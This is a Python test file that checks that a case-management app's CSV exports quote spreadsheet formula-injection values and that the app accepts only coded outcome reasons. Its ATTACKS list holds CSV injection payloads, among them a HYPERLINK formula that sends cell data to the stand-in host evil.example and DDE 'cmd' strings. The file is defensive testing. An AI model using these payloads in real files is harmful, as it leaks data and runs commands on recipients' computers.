"""Finding 5: no CSV the app writes carries a cell a spreadsheet would run as a formula, and the outcome reasons
that the contract makes codes are codes (issue 9)."""
import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given, settings, strategies as st

from diversion import clock, csv_safe
from diversion.domain import contracts as rules
from diversion.extensions import db
from diversion.domain.exports import JOB_KINDS
from diversion.models import Contract
from tests.export_files import ask_and_download, without_trailer
from tests.api.conftest import bearer, issue_token  # noqa: F401  (a fixture)
from tests.web.conftest import make_contract  # noqa: F401  (a fixture)

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "-cmd|' /C calc'!A0"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_cell_that_starts_like_a_formula_is_quoted(attack):
    assert csv_safe.cell(attack) == "'" + attack


@pytest.mark.parametrize("value", [-3, -0.125, Decimal("-1.5"), 0, 2.5, "-3", "-0.125", "+4", "1e-5", "2026-03-01",
                                   "not_in_public_interest", "O'Neill", "", True])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert csv_safe.cell(value) == value


def test_none_is_an_empty_cell():
    assert csv_safe.cell(None) == ""


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_written_through_the_helper_reads_back_as_a_formula(value):
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerow([value])
    [[back]] = list(csv.reader(io.StringIO(buffer.getvalue()))) or [[""]]
    assert not _formula(back)


def _formula(text: str) -> bool:
    if re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text):
        return False
    first = text[:1] if text[:1] in ("\t", "\r") else text.lstrip(" ")[:1]
    return first in csv_safe.FORMULA_STARTS


def test_every_csv_writer_in_the_app_is_the_safe_one():
    """A new export cannot forget: csv.writer / DictWriter appear only inside diversion/csv_safe.py."""
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "diversion").rglob("*.py")
                 if path.name != "csv_safe.py" and re.search(r"\bcsv\.(writer|DictWriter)\b|\bDictWriter\(|"
                                                             r"from csv import", path.read_text())]
    assert offenders == []


def _export(client, what: str) -> list[list[str]]:
    if what in JOB_KINDS:
        return without_trailer(ask_and_download(client, f"/reports/export/{what}?period=last_12_months",
                                                {"purpose": "Checking the export for the security review"})[1])
    response = client.post_form(f"/reports/export/{what}?period=last_12_months",
                                {"purpose": "Checking the export for the security review"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_stored_reason_that_is_a_formula_is_neutralised_in_every_export(signed_in, make_contract, app):
    """Reasons stored before the code rule (or by any other way in) still reach the export safely."""
    contract_id = make_contract()
    with app.app_context():
        db.session.execute(sa.update(Contract).where(Contract.id == contract_id).values(
            status="discontinued", outcome_date=clock.today(), outcome_reason=ATTACKS[0]))
        db.session.commit()
    client, _ = signed_in("manager")
    rows = _export(client, "checkpoint-cases")
    reason = rows[1][rows[0].index("Outcome reason")]
    assert reason == "'" + ATTACKS[0]
    for what in ("checkpoint-summary", "checkpoint-groups", "checkpoint-monthly", "divert-groups", "checkpoint-cases"):
        cells = [cell for row in _export(client, what) for cell in row]
        assert not [cell for cell in cells if _formula(cell)], what


# --- reasons where the contract has codes are codes ---------------------------------------------------------

def _outcome(client, contract_id, app, **body):
    with app.app_context():
        version = db.session.get(Contract, contract_id).version
    return client.post(f"/api/v1/contracts/{contract_id}/outcome", headers=bearer(client.token),
                       json={"outcome": "discontinued", "date": clock.today().isoformat(), "version": version, **body})


@pytest.fixture
def api_navigator(app, issue_token, make_contract):
    token, navigator = issue_token("navigator")
    client = app.test_client()
    client.token = token
    return client, make_contract(navigator=navigator)


@pytest.mark.parametrize("reason", [ATTACKS[0], "Moved abroad", "x" * 65, "died\x00", "not-in-public-interest",
                                    "1st_reason", "_private", "trailing_", "double__underscore", "Died"])
def test_a_discontinue_reason_that_is_not_a_code_is_a_field_error(api_navigator, app, reason):
    client, contract_id = api_navigator
    response = _outcome(client, contract_id, app, reason=reason)
    assert response.status_code == 422, response.get_data(as_text=True)
    assert list(response.get_json()["error"]["fields"]) == ["reason"]
    with app.app_context():
        assert db.session.get(Contract, contract_id).status == "active"


def test_a_64_character_code_is_the_longest_reason_accepted(api_navigator, app):
    client, contract_id = api_navigator
    response = _outcome(client, contract_id, app, reason="moved_" + "a" * 58)
    assert response.status_code == 200 and response.get_json()["outcome"]["reason"] == "moved_" + "a" * 58


@pytest.mark.parametrize("code", list(rules.DISCONTINUE_EXAMPLES))
def test_the_contract_pages_discontinue_choices_are_codes_the_server_accepts(code):
    check = rules.check_outcome(outcome="discontinued", on=clock.today(), reason=code, stored_status="active",
                                start_date=clock.today() - timedelta(days=1), deadline=clock.today(),
                                today=clock.today(), condition_statuses={})
    assert check.ok and rules.is_reason_code(code)


@pytest.mark.parametrize("code", list(rules.BREACH_REASONS))
def test_the_breach_choices_are_codes_too(code):
    assert rules.is_reason_code(code)


def test_the_contract_page_refuses_a_discontinue_reason_that_is_not_one_of_its_codes(signed_in, make_contract, app):
    client, navigator = signed_in("navigator")
    contract_id = make_contract(navigator=navigator)
    url = f"/contracts/{contract_id}"
    today = clock.today()
    with app.app_context():
        version = db.session.get(Contract, contract_id).version
    page = client.post_page(f"{url}/outcome", {
        "outcome": "discontinued", "discontinue_reason": ATTACKS[0], "outcome_date-day": str(today.day),
        "outcome_date-month": str(today.month), "outcome_date-year": str(today.year), "version": str(version)},
        form_page=url, expected_status=422)  # the reason is asked, and its error shown, on its own page
    assert page.select_one("#discontinue_reason-error") is not None
    values = {radio["value"] for radio in page.select("input[name=discontinue_reason]")}
    assert values == set(rules.DISCONTINUE_EXAMPLES) and all(rules.is_reason_code(v) for v in values)
    with app.app_context():
        assert db.session.get(Contract, contract_id).status == "active"
